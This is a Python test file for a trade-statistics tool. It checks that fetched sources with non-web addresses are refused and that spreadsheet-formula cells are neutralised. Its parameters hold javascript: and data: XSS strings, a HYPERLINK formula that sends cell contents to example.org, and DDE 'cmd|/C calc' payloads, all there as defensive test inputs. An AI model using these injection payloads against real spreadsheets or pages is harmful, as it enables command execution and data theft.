"""A fetched source is checked like a row of data/sources.csv, and its cells are written so a spreadsheet opening
data/fetched/*.csv runs none of them: each test runs the command a user runs (`tradeclaims fetch`, `validate`) on a copy
of the project, with a genuine page from tests/fixtures."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest

from tradeclaims.fetch.gacc import parse_release
from tradeclaims.ledger.fetched import FORMULA_START, load_fetched, neutralised, restored

from ..conftest import tradeclaims
from . import FIXTURES

INDIA_PAGE = FIXTURES / "india" / "eidb-import-china-2017-19.html"
BULLETIN = FIXTURES / "gacc" / "bulletin5_customs_regime_2023-10.txt"  # its first line is the page's title
GACC_URL = "https://english.customs.gov.cn/Statics/bulletin-2023-10.html"


def table_rows(path: Path) -> list[dict[str, str]]:
    """A fetched table's cells exactly as written, as a spreadsheet or csv module sees them."""
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


# --- the source's address --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("address", ["javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>",
                                     "ftp://tradestat.commerce.gov.in/eidb", "https://tradestat.commerce.gov.in/e idb"])
def test_a_fetched_source_whose_address_is_no_web_page_is_refused_and_nothing_stored(project_copy, address):
    fetched = tradeclaims("fetch", "india", "--file", str(INDIA_PAGE), "--url", address, cwd=project_copy)
    assert fetched.returncode == 2
    assert fetched.stderr == (f"tradeclaims: error: {INDIA_PAGE}: the source is not one data/sources.csv would accept: "
                              f"field url: {address!r} does not match the pattern ^https?://\\S+$; give the page's "
                              "http:// or https:// address with --url\n")
    assert not (project_copy / "data" / "fetched").exists()


def test_the_same_page_from_a_web_address_is_stored_and_validates(project_copy):
    """The control: the refusal above is the address's, not the page's."""
    address = "https://tradestat.commerce.gov.in/eidb/icntcomq.asp"
    fetched = tradeclaims("fetch", "india", "--file", str(INDIA_PAGE), "--url", address, cwd=project_copy)
    assert fetched.returncode == 0, fetched.stderr
    [source] = table_rows(project_copy / "data" / "fetched" / "sources.csv")
    assert source["url"] == address and source["kind"] == "official"
    assert tradeclaims("validate", cwd=project_copy).returncode == 0


def plant_javascript_address(project: Path) -> None:
    """A fetched source's address replaced by hand with javascript:alert(1), its hash recorded in data/fetched's
    descriptor as a fetch records it (no command updates those hashes)."""
    address = "https://tradestat.commerce.gov.in/eidb/icntcomq.asp"
    assert tradeclaims("fetch", "india", "--file", str(INDIA_PAGE), "--url", address, cwd=project).returncode == 0
    assert tradeclaims("validate", cwd=project).returncode == 0  # the fetched data as stored pass, and are remembered
    root = project / "data" / "fetched"
    content = (root / "sources.csv").read_bytes().replace(address.encode(), b"javascript:alert(1)")
    (root / "sources.csv").write_bytes(content)
    descriptor = json.loads((root / "datapackage.json").read_text())
    for resource in descriptor["resources"]:
        if resource["path"] == "sources.csv":
            resource.update(hash=f"sha256:{hashlib.sha256(content).hexdigest()}", bytes=len(content))
    (root / "datapackage.json").write_text(json.dumps(descriptor, indent=2))


JAVASCRIPT_ROW = "data/fetched/sources.csv:2: field url: 'javascript:alert(1)' does not match the pattern ^https?://\\S+$"


def test_validate_names_a_fetched_source_at_a_javascript_address(project_copy):
    """A table stored before the check, its hash recorded as a fetch records it: `validate` names the row."""
    plant_javascript_address(project_copy)
    checked = tradeclaims("validate", cwd=project_copy)
    assert checked.returncode == 2
    assert JAVASCRIPT_ROW in checked.stdout.splitlines()


@pytest.mark.parametrize("source", ["india", "fetched"])
def test_a_run_on_a_fetched_source_at_a_javascript_address_is_refused_before_any_kernel(project_copy, source):
    """The data passed `validate` before the row was planted: the check remembered is of other files, and the run
    checks them again, naming the row as validate does, and writes no report."""
    plant_javascript_address(project_copy)
    ran = tradeclaims("run", "india-deficit", "-p", "source", source, cwd=project_copy)
    assert (ran.returncode, ran.stdout) == (2, "")
    assert ran.stderr == f"tradeclaims: error: data/ is invalid: {JAVASCRIPT_ROW}\n"
    assert not (project_copy / "reports").exists()


# --- cells a spreadsheet would run ---------------------------------------------------------------------------------

@pytest.mark.parametrize("start", ['=HYPERLINK("https://example.org/?q="&A1,"GACC")', "+1+1", "-2+3", "@SUM(1+1)"])
def test_a_page_title_a_spreadsheet_would_run_is_stored_behind_a_quote_and_read_back_as_printed(project_copy, start):
    genuine = BULLETIN.read_text(encoding="utf-8")
    first_line, rest = genuine.split("\n", 1)
    title = start + first_line
    page = project_copy / "bulletin.txt"
    page.write_text(f"{title}\n{rest}", encoding="utf-8")
    fetched = tradeclaims("fetch", "gacc", "--file", str(page), "--url", GACC_URL, cwd=project_copy)
    assert fetched.returncode == 0, fetched.stderr
    data = project_copy / "data"
    [written] = table_rows(data / "fetched" / "sources.csv")
    assert written["title"] == "'" + title  # a spreadsheet shows the text; it runs nothing
    observations, sources = load_fetched(data, "gacc")
    assert sources["title"].tolist() == [title]  # the project's reader gives back the title as the page printed it
    genuine_rows = parse_release(BULLETIN.read_bytes(), "bulletin.txt").rows
    assert sorted(observations["value"]) == sorted(row["value"] for row in genuine_rows)
    assert tradeclaims("validate", cwd=project_copy).returncode == 0


def test_negative_figures_stay_numbers_in_the_fetched_tables(project_copy):
    """-7.94 is a number to a spreadsheet, not a formula: written as it is, so the table still holds figures."""
    address = "https://tradestat.commerce.gov.in/eidb/icntcomq.asp"
    assert tradeclaims("fetch", "india", "--file", str(INDIA_PAGE), "--url", address, cwd=project_copy).returncode == 0
    written = table_rows(project_copy / "data" / "fetched" / "india" / "observations.csv")
    growth = [row["value"] for row in written if row["partner"] == "CN" and row["measure"] == "yoy_pct"]
    assert growth == ["-7.94"]


@pytest.mark.parametrize("cell", [*(start + "cmd|' /C calc'!A0" for start in FORMULA_START), "'quoted", "''", "'=1",
                                  "Total", ""])
def test_every_cell_is_read_back_as_it_was_fetched_and_none_is_run(cell):
    written = neutralised(cell)
    assert restored(written) == cell
    assert not written.startswith(FORMULA_START)


@pytest.mark.parametrize("number", ["-7.94", "+3", "-0.5", "-.5"])
def test_plain_numbers_are_written_as_they_are(number):
    assert neutralised(number) == number and restored(number) == number
